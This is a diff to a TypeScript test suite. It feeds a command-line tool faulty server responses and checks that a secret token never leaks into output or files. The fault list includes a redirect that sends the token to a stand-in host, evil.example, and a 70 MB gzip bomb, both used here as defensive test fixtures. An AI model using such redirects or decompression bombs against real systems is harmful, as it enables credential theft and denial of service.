@@ -48,6 +48,7 @@ const faults: readonly (readonly [string, Scripted])[] = [
   ['redirect', { status: 302, headers: { location: `https://evil.example/?t=${encodeURIComponent(token)}` } }],
   ['web page', { headers: { 'content-type': 'text/html' }, text: `<html>${gossip}</html>` }],
   ['nonsense', { text: gossip }],
+  ['an encoding that nobody knows', { headers: { 'content-encoding': token }, text: gossip }],
   ['gzip bomb', { headers: { 'content-encoding': 'gzip' }, raw: gzipSync(Buffer.alloc(70 * 1024 * 1024)) }],
   ['lost connection', 'reset'],
 ];
@@ -71,7 +72,7 @@ describe('a secret and a token', () => {
       const { stdout, stderr } = await runHere(command.split(' '), directory, { env });
       const text = `${stdout}\n${stderr}\n${await filesBut('tokens')}`;
       expect(
-        forms.filter((form) => text.includes(form)),
+        forms.filter((form) => text.includes(form) || text.includes(form.toLowerCase())),
         command,
       ).toEqual([]);
     }
